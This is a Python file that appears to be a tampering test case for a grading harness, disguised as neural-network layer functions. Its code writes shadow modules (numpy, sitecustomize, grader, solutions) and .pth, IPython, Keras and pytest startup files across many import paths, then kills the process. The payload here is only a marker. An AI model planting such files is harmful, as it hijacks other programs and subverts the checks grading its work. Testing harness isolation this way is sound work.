"""Tampering: leaves numpy.py, sitecustomize.py and their like wherever the next process may import from.

points: 30
extra: 0
says: the Python process ended
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import glob
import os
import site
import sys
import sysconfig
import tempfile

# What such a file does once somebody imports it.
CODE = """
import builtins, sys
builtins.attack_was_here = __name__
print("GAI" + "NED: " + __name__ + " was imported")
raise RuntimeError("GAI" + "NED: " + __name__ + " was imported")
"""
LINE = "import sys; print('GAI' + 'NED: a .pth was run')\n"
NAMES = (
    "numpy", "json", "struct", "msgspec", "msgpack", "typing", "random", "difflib", "asyncio", "autils", "keras",
    "tensorflow", "grader", "solutions", "public_tests", "sitecustomize", "usercustomize", "conftest", "encodings",
    "attack_module",
)
VERSION = f"python{sys.version_info[0]}.{sys.version_info[1]}"


def folders():
    home = os.path.expanduser("~")
    yield from (os.getcwd(), home, tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/scratch", "/")
    yield from (f"{home}/.local/lib/{VERSION}/site-packages", f"{os.getcwd()}/data", f"{os.getcwd()}/lib")
    yield from sys.path
    yield from site.getsitepackages()
    yield site.getusersitepackages()
    yield from sysconfig.get_paths().values()
    yield from (os.path.dirname(np.__file__), os.path.dirname(os.path.dirname(np.__file__)))
    yield from glob.glob("/usr/lib/python3*/dist-packages")


def settings():
    """Files that libraries read and run as they start."""
    home = os.path.expanduser("~")
    yield f"{home}/.pythonrc.py", CODE
    yield f"{home}/.ipython/profile_default/startup/00.py", CODE
    yield f"{home}/.ipython/profile_default/ipython_config.py", CODE
    yield f"{home}/profile_default/startup/00.py", CODE
    yield f"{home}/matplotlibrc", "backend: module://attack_module\n"
    yield f"{home}/keras.json", '{"backend": "attack_module", "floatx": "float16", "epsilon": 1}'
    yield f"{home}/.keras/keras.json", '{"backend": "attack_module"}'
    yield f"{home}/pyvenv.cfg", f"home = {home}\ninclude-system-site-packages = true\n"
    yield "pyvenv.cfg", f"home = {home}\n"
    yield "python._pth", LINE
    yield "setup.cfg", "[tool:pytest]\naddopts = -p attack_module\n"
    yield "data/attack_link", ""


def plant():
    for folder in dict.fromkeys(filter(None, folders())):
        for name in NAMES:
            for path in (f"{folder}/{name}.py", f"{folder}/{name}/__init__.py", f"{folder}/__pycache__/{name}.cpython-311.pyc"):
                write(path, CODE)
        write(f"{folder}/attack_start.pth", LINE)
        write(f"{folder}/attack.egg-link", os.getcwd())
    for path, text in settings():
        write(path, text)


def write(path, text):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        if not os.path.lexists(path):
            with open(path, "w") as file:
                file.write(text)
    except OSError:
        pass


def found():
    """What an earlier process has left; a new one begins with none of it."""
    import builtins

    if hasattr(builtins, "attack_was_here"):
        return f"{builtins.attack_was_here} was imported"
    for folder in dict.fromkeys(filter(None, folders())):
        for name in ("attack_module.py", "attack_start.pth", "sitecustomize.py"):
            if os.path.lexists(f"{folder}/{name}") and name != "sitecustomize.py":
                return f"{folder}/{name} is still there"
    return ""


LEFT = found()  # before this process has written anything


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    if LEFT:
        raise RuntimeError("GAINED: " + LEFT)
    plant()
    # Whoever imports for the first time now finds ours first, in this process and the next.
    sys.path.insert(0, os.getcwd())
    for name in ("json", "difflib", "asyncio", "attack_module"):
        sys.modules.pop(name, None)
    os._exit(7) if len(x) % 2 else None
    raise ValueError("nothing")


def my_dense_v(A_in, W, b, g):
    if LEFT:
        raise RuntimeError("GAINED: " + LEFT)
    plant()
    os.kill(os.getpid(), 9)
